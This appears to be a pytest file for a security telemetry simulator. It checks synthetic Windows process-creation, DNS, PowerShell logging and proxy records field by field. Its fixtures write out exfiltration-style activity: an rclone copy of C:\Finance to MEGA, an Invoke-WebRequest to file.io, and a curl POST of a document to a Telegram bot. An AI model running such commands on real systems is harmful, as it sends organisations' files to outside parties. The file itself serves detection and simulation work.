"""Security 4688, DNS-Client 3008, PowerShell 4103 and 4104, and the proxy: exact records and their traps."""

from __future__ import annotations

import re
from typing import Any

import polars as pl
import pytest

from simulator.errors import UsageError
from simulator.scenario.actions import ActionFrames
from simulator.telemetry import render
from tests.telemetry.worlds import (
    ADMIN,
    ALICE,
    LINUX,
    LOCAL_SERVICE,
    NETWORK_SERVICE,
    NO_SYSMON,
    NOON,
    OLD_AUDIT,
    OLD_SYSMON,
    SYSTEM,
    actions,
    world,
)

AUDIT, DNS, MODULE, SCRIPT, PROXY = (
    "security.process_creation",
    "dns_client.query",
    "powershell.module",
    "powershell.script_block",
    "proxy.http",
)


def one(table: str, frames: ActionFrames, **parameters: bool | int | float | str) -> dict[str, Any]:
    """The only record of a table."""
    return render(frames, world(**parameters), [table])[table].row(0, named=True)


def started(**columns: Any) -> ActionFrames:
    return {"process_start": actions("process_start", columns)}


def test_4688_field_for_field() -> None:
    row = one(AUDIT, started())
    for name, form in {
        "NewProcessId": r"0x[0-9a-f]+",
        "ProcessId": r"0x[0-9a-f]+",
        "SubjectLogonId": "0x[0-9a-f]+",
    }.items():
        assert re.fullmatch(form, row.pop(name)), name
    assert row.pop("Execution_ThreadID") % 4 == 0
    for drawn in ("_event_id", "_time", "EventRecordID"):
        assert row.pop(drawn)
    assert row == {
        "_host": "WS-0001.meridian.example",
        "_user": "alice.frost",
        "Provider_Name": "Microsoft-Windows-Security-Auditing",
        "Provider_Guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
        "EventID": 4688,
        "Version": 2,
        "Level": 0,
        "Task": 13312,
        "Opcode": 0,
        "Keywords": "0x8020000000000000",
        "Execution_ProcessID": 4,
        "Channel": "Security",
        "Computer": "WS-0001.meridian.example",
        "Security_UserID": None,
        "SubjectUserSid": "S-1-5-21-1-2-3-1104",
        "SubjectUserName": "alice.frost",
        "SubjectDomainName": "MERIDIAN",
        "NewProcessName": r"C:\Tools\rclone.exe",
        "TokenElevationType": "%%1936",
        "CommandLine": r'"C:\Tools\rclone.exe" copy C:\Finance mega:in',
        "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-",
        "TargetDomainName": "-",
        "TargetLogonId": "0x0",
        "ParentProcessName": r"C:\Windows\explorer.exe",
        "MandatoryLabel": "S-1-16-8192",
        "_action_id": 500,
        "_instance_id": 99,
    }


@pytest.mark.parametrize(
    ("user", "logon", "name", "domain", "logon_id"),
    [
        (NETWORK_SERVICE, 0x3E4, "WS-0001$", "MERIDIAN", "0x3e4"),
        (LOCAL_SERVICE, 0x3E5, "LOCAL SERVICE", "NT AUTHORITY", "0x3e5"),
    ],
)
def test_a_service_started_for_another_account(user: int, logon: int, name: str, domain: str, logon_id: str) -> None:
    """The computer's own account stands for SYSTEM and NETWORK SERVICE, as in real records."""
    row = one(AUDIT, started(user=user, logon=logon, parent_user=SYSTEM, integrity="System"))
    assert [row[f"Subject{n}"] for n in ("UserSid", "UserName", "DomainName", "LogonId")] == [
        "S-1-5-18",
        "WS-0001$",
        "MERIDIAN",
        "0x3e7",
    ]
    assert [row[f"Target{n}"] for n in ("UserSid", "UserName", "DomainName", "LogonId")] == [
        "S-1-0-0",
        name,
        domain,
        logon_id,
    ]
    assert row["MandatoryLabel"] == "S-1-16-16384"
    assert row["_user"] == name


@pytest.mark.parametrize(
    ("user", "integrity", "elevation", "label"),
    [
        (ALICE, "Low", "%%1936", "S-1-16-4096"),
        (ALICE, "Medium", "%%1936", "S-1-16-8192"),
        (ADMIN, "Medium", "%%1938", "S-1-16-8192"),
        (ADMIN, "High", "%%1937", "S-1-16-12288"),
        (SYSTEM, "System", "%%1936", "S-1-16-16384"),
    ],
)
def test_token_elevation_and_label(user: int, integrity: str, elevation: str, label: str) -> None:
    row = one(AUDIT, started(user=user, integrity=integrity))
    assert (row["TokenElevationType"], row["MandatoryLabel"]) == (elevation, label)


def test_the_command_line_is_empty_where_it_is_not_audited_and_keeps_trailing_spaces_where_it_is() -> None:
    assert one(AUDIT, started(host=OLD_SYSMON))["CommandLine"] == ""
    assert one(AUDIT, started(command_line="cmd.exe /c x  "))["CommandLine"] == "cmd.exe /c x  "


def test_old_servers_lack_parent_and_label_and_some_the_target_too() -> None:
    frames = started(host=OLD_AUDIT, parent_user=SYSTEM)
    version_2 = one(AUDIT, frames, audit_v1_version_1_share=0)
    assert version_2["Version"] == 2
    assert version_2["ParentProcessName"] is version_2["MandatoryLabel"] is None
    assert version_2["TargetUserName"] == "alice.frost"
    version_1 = one(AUDIT, frames, audit_v1_version_1_share=1)
    assert version_1["Version"] == 1
    assert {n for n, v in version_1.items() if v is None} == {
        "Security_UserID",
        "TargetUserSid",
        "TargetUserName",
        "TargetDomainName",
        "TargetLogonId",
        "ParentProcessName",
        "MandatoryLabel",
    }


def test_the_kernel_is_process_4() -> None:
    row = one(AUDIT, started(image=r"C:\Windows\System32\smss.exe", parent_image="System", parent_user=SYSTEM))
    assert row["ProcessId"] == "0x4"


def test_a_lookup_leaves_an_answer_and_a_partner_with_status_87() -> None:
    parameters = {"dns_client_pair_share": 1, "dns_client_results_missing": 0}
    table = render({"lookup": actions("lookup")}, world(**parameters), [DNS])[DNS]
    fields = ("QueryName", "QueryType", "QueryOptions", "QueryStatus", "QueryResults")
    assert table.select(fields).rows() == [
        ("g.api.mega.co.nz", "28", "2251800887582720", "0", "type:  5 lu.api.mega.co.nz;::ffff:66.203.125.11;"),
        ("g.api.mega.co.nz", "1", "1073766400", "87", None),
    ]
    assert table["_event_id"].n_unique() == table["EventRecordID"].n_unique() == 2
    assert table["_action_id"].to_list() == [500, 500]
    assert set(table["Security_UserID"]) == {"S-1-5-21-1-2-3-1104"}


@pytest.mark.parametrize(
    ("lookup", "expected"),
    [
        ({}, ("1", "0", "66.203.125.11;")),
        ({"query_type": "AAAA", "addresses": ["2606:4700::1"], "cnames": []}, ("28", "0", "2606:4700::1;")),
        ({"query_type": "TXT", "addresses": []}, ("16", "0", None)),
        ({"status": 9003}, ("1", "9003", None)),
        ({"query_type": "65"}, ("65", "0", "66.203.125.11;")),
    ],
)
def test_single_lookups(lookup: dict[str, Any], expected: tuple[str, str, str | None]) -> None:
    parameters = {"dns_client_pair_share": 0, "dns_client_results_missing": 0}
    row = one(DNS, {"lookup": actions("lookup", lookup)}, **parameters)
    assert (row["QueryType"], row["QueryStatus"], row["QueryResults"]) == expected


def test_the_dns_client_channel_is_off_on_most_hosts() -> None:
    assert render({"lookup": actions("lookup", {"host": NO_SYSMON})}, world(), [DNS])[DNS].is_empty()


def test_results_are_missing_in_the_share_that_the_world_says() -> None:
    """0.7 of 3,880 records, within four standard deviations; and never with status 0."""
    table = render({"lookup": actions("lookup", count=2000)}, world(), [DNS])[DNS]
    missing = table["QueryResults"].null_count() / table.height
    assert abs(missing - 0.7) < 0.03
    assert table.filter(pl.col("QueryResults").is_null() & (pl.col("QueryStatus") == "0")).is_empty()


def test_4104_field_for_field() -> None:
    row = one(SCRIPT, {"script": actions("script", {"path": r"C:\x.ps1"})})
    assert re.fullmatch(r"[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}", row["ScriptBlockId"])
    assert [row[n] for n in ("MessageNumber", "MessageTotal", "ScriptBlockText", "Path")] == [
        "1",
        "1",
        "Get-Date",
        r"C:\x.ps1",
    ]
    assert [row[n] for n in ("EventID", "Version", "Level", "Task", "Opcode", "Keywords")] == [4104, 1, 5, 2, 15, "0x0"]
    assert row["Provider_Guid"] == "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}"
    assert row["Security_UserID"] == "S-1-5-21-1-2-3-1104"


def test_suspicious_scripts_are_warnings_and_logged_everywhere() -> None:
    rows = [{"host": host, "suspicious": bad} for host in (0, NO_SYSMON, LINUX) for bad in (False, True)]
    table = render({"script": actions("script", *rows)}, world(), [SCRIPT])[SCRIPT]
    assert table.select("_action_id", "Level").rows() == [(500, 5), (501, 3), (503, 3)]


def test_powershell_4_has_no_path_and_an_empty_one_is_empty() -> None:
    rows = [{"host": OLD_AUDIT, "path": r"C:\x.ps1"}, {}]
    assert render({"script": actions("script", *rows)}, world(), [SCRIPT])[SCRIPT]["Path"].to_list() == [None, ""]


@pytest.mark.parametrize(
    ("length", "least", "most", "pieces"),
    [
        (19_999, 10_000, 10_000, [19_999]),
        (25_000, 10_000, 10_000, [10_000, 10_000, 5_000]),
        (20_000, 10_000, 10_000, [10_000, 10_000, 0]),
    ],
)
def test_long_scripts_are_split(length: int, least: int, most: int, pieces: list[int]) -> None:
    text = "".join(chr(ord("a") + i % 26) for i in range(length - 1)) + "ü"
    made = world(script_block_piece_least=least, script_block_piece_most=most)
    table = render({"script": actions("script", {"text": text}, {})}, made, [SCRIPT])[SCRIPT]
    long = table.filter(pl.col("_action_id") == 500)
    assert long["ScriptBlockText"].str.len_chars().to_list() == pieces
    assert "".join(long["ScriptBlockText"]) == text
    assert long["MessageNumber"].to_list() == [str(i + 1) for i in range(len(pieces))]
    assert long["MessageTotal"].unique().to_list() == [str(len(pieces))]
    assert long["ScriptBlockId"].n_unique() == 1
    assert long["EventRecordID"].n_unique() == len(pieces)
    assert table["_event_id"].n_unique() == table.height
    assert table["ScriptBlockText"][-1] == "Get-Date"


def test_the_length_of_pieces_is_drawn() -> None:
    table = render({"script": actions("script", {"text": "x" * 30_000}, count=20)}, world(), [SCRIPT])[SCRIPT]
    first = table.filter(pl.col("MessageNumber") == "1")["ScriptBlockText"].str.len_chars()
    assert 10_000 <= first.min() < first.max() < 20_000


def test_4103_field_for_field() -> None:
    row = one(MODULE, {"cmdlet": actions("cmdlet", {"script": r"C:\up.ps1"})})
    lines = row["ContextInfo"].split("\r\n")
    assert lines.pop() == ""
    keys = [re.fullmatch(r" {8}([A-Z][A-Za-z ]+) = (.*)", line) for line in lines]
    context = {key[1]: key[2] for key in keys if key}
    assert list(context) == [
        "Severity",
        "Host Name",
        "Host Version",
        "Host ID",
        "Host Application",
        "Engine Version",
        "Runspace ID",
        "Pipeline ID",
        "Command Name",
        "Command Type",
        "Script Name",
        "Command Path",
        "Sequence Number",
        "User",
        "Connected User",
        "Shell ID",
    ]
    assert context["Severity"] == "Informational"
    assert re.fullmatch(r"5\.1\.22631\.\d+", context["Host Version"])
    assert context["Host Version"] == context["Engine Version"]
    assert context["Command Name"] == "Invoke-WebRequest"
    assert context["Host Application"] == "powershell.exe"
    assert context["Script Name"] == r"C:\up.ps1"
    assert context["User"] == r"MERIDIAN\alice.frost"
    assert row["UserData"] == ""
    assert row["Payload"] == (
        'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\n'
        'ParameterBinding(Invoke-WebRequest): name="Uri"; value="https://file.io/?a=b"\r\n'
        'ParameterBinding(Invoke-WebRequest): name="UseBasicParsing"; value="True"\r\n'
    )


def test_powershell_4_knows_no_connected_user() -> None:
    row = one(MODULE, {"cmdlet": actions("cmdlet", {"host": OLD_AUDIT, "parameters": []})})
    assert "Connected User" not in row["ContextInfo"]
    assert "Host Version = 4.0\r\n" in row["ContextInfo"]
    assert row["Payload"] == 'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\n'


def test_module_logging_is_a_policy() -> None:
    assert render({"cmdlet": actions("cmdlet", {"host": NO_SYSMON})}, world(), [MODULE])[MODULE].is_empty()


def proxy_fields(row: dict[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in row.items() if not name.startswith("_")}


def test_an_inspected_request_field_for_field() -> None:
    row = one(PROXY, {"request": actions("request")})
    assert proxy_fields(row) == {
        "c-uri": "https://api.telegram.org/bot123/sendDocument?chat_id=7",
        "c-uri-extension": "-",
        "c-uri-query": "chat_id=7",
        "c-uri-stem": "/bot123/sendDocument",
        "c-useragent": "curl/8.10.1",
        "cs-bytes": 600,
        "cs-cookie": "-",
        "cs-host": "api.telegram.org",
        "cs-method": "POST",
        "r-dns": "api.telegram.org",
        "cs-referrer": "-",
        "cs-version": "HTTP/1.1",
        "sc-bytes": 20_000,
        "sc-status": 200,
        "src_ip": "10.20.0.11",
        "dst_ip": "149.154.167.220",
    }
    assert (row["_host"], row["_user"]) == ("WS-0001.meridian.example", "alice.frost")


def test_without_inspection_only_a_connect_line_remains() -> None:
    row = one(PROXY, {"request": actions("request", {"host": OLD_SYSMON, "status": 403})})
    assert {n: row[n] for n in ("c-uri", "cs-method", "cs-host", "c-useragent", "sc-status")} == {
        "c-uri": "api.telegram.org:443",
        "cs-method": "CONNECT",
        "cs-host": "api.telegram.org",
        "c-useragent": "curl/8.10.1",
        "sc-status": 200,
    }
    assert {row[n] for n in ("c-uri-extension", "c-uri-query", "c-uri-stem", "cs-referrer")} == {"-"}
    assert (row["cs-bytes"], row["sc-bytes"]) == (600, 20_000)


@pytest.mark.parametrize(
    ("agent", "tunnel"),
    [
        ("rclone/v1.66.0", "Go-http-client/1.1"),
        ("python-requests/2.31.0", "-"),
        ("Mozilla/5.0 (Windows NT 10.0)", "Mozilla/5.0 (Windows NT 10.0)"),
        (None, "-"),
    ],
)
def test_connect_has_the_user_agent_of_the_client_library(agent: str | None, tunnel: str) -> None:
    row = one(PROXY, {"request": actions("request", {"host": OLD_SYSMON, "user_agent": agent})})
    assert row["c-useragent"] == tunnel


def test_plain_http_is_seen_without_inspection() -> None:
    request = {"host": OLD_SYSMON, "scheme": "http", "port": 8000, "path": "/ul/a.zip", "user_agent": "rclone/v1.66.0"}
    row = one(PROXY, {"request": actions("request", request | {"name": None})})
    assert row["c-uri"] == "http://149.154.167.220:8000/ul/a.zip"
    assert (row["c-uri-extension"], row["c-uri-query"], row["c-useragent"]) == ("zip", "-", "rclone/v1.66.0")


def test_the_byte_columns_follow_the_worlds_convention() -> None:
    row = one(PROXY, {"request": actions("request")}, proxy_bytes_convention="w3c")
    assert (row["cs-bytes"], row["sc-bytes"]) == (20_000, 600)
    with pytest.raises(UsageError, match="proxy_bytes_convention is 'other'"):
        one(PROXY, {"request": actions("request")}, proxy_bytes_convention="other")


def test_what_leaves_directly_is_not_in_the_proxy_log_and_linux_is() -> None:
    rows = [{"host": NO_SYSMON}, {"host": LINUX, "time": NOON + 1}]
    table = render({"request": actions("request", *rows)}, world(), [PROXY])[PROXY]
    assert table["_host"].to_list() == ["WS-0004.meridian.example"]


def test_exchanges_in_one_tunnel_leave_one_line_with_the_bytes_of_all() -> None:
    second = 1_000_000
    times = (0, 5 * second, 30 * second, 300 * second)
    rows = [{"host": OLD_SYSMON, "time": NOON + time, "process": 7} for time in times]
    other = {"host": OLD_SYSMON, "time": NOON + second, "process": 7, "instance_id": 100}
    table = render({"request": actions("request", *rows, other)}, world(), [PROXY])[PROXY]
    assert sorted(table["sc-bytes"]) == [20_000, 20_000, 60_000]
